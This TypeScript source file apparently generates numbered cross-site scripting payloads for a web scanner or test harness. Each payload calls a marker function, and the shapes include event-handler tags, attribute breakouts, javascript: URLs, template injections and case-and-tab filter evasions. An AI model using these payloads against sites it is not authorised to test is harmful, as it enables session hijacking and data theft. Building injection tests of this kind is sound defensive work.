/** The script in payload `n`. If the page runs the script, it calls `xss(n)`. */
const xssCall = (n: number) => `xss(${n})`

const SHAPES: readonly ((n: number) => string)[] = [
  (n) => `<svg onload=${xssCall(n)}>`,
  (n) => `<img src=x onerror=${xssCall(n)}>`,
  (n) => `<script>${xssCall(n)}</script>`,
  (n) => `"><svg/onload=${xssCall(n)}>`,
  (n) => `'><img src=x onerror=${xssCall(n)}>`,
  (n) => `javascript:${xssCall(n)}`,
  (n) => `<body onload=${xssCall(n)}>`,
  (n) => `" onfocus=${xssCall(n)} autofocus x="`,
  (n) => `' onmouseover=${xssCall(n)} x='`,
  (n) => `</title><svg onload=${xssCall(n)}>`,
  (n) => `</textarea><svg onload=${xssCall(n)}>`,
  (n) => `</script><svg onload=${xssCall(n)}>`,
  (n) => `\${${xssCall(n)}}`,
  (n) => `{{constructor.constructor('${xssCall(n)}')()}}`,
  (n) => `<iframe src=javascript:top.${xssCall(n)}>`,
  (n) => `<a href=javascript:${xssCall(n)}>x</a>`,
  (n) => `<input onfocus=${xssCall(n)} autofocus>`,
  (n) => `<details open ontoggle=${xssCall(n)}>`,
  (n) => `<style onload=${xssCall(n)}></style>`,
  (n) => `<video src=x onerror=${xssCall(n)}>`,
  (n) => `<math><mi xlink:href="javascript:${xssCall(n)}">`,
  (n) => `<!--><svg onload=${xssCall(n)}>-->`,
  (n) => `\u202e<svg onload=${xssCall(n)}>`,
  (n) => `&lt;svg onload=${xssCall(n)}&gt;`,
  (n) => `%3Csvg onload=${xssCall(n)}%3E`,
]

/** Returns different script payloads of at most 50 characters each, which fit into every text field. */
export function payloads(count: number): string[] {
  return Array.from({ length: count }, (_, index) => {
    const shape = SHAPES[index % SHAPES.length]
    const text = shape?.(index) ?? ''
    // In every second payload, '<SvG' replaces '<svg', and a tab replaces the space before the event handler.
    return index % 2 === 0 ? text : text.replace('<svg', '<SvG').replace(' on', '\ton')
  })
}
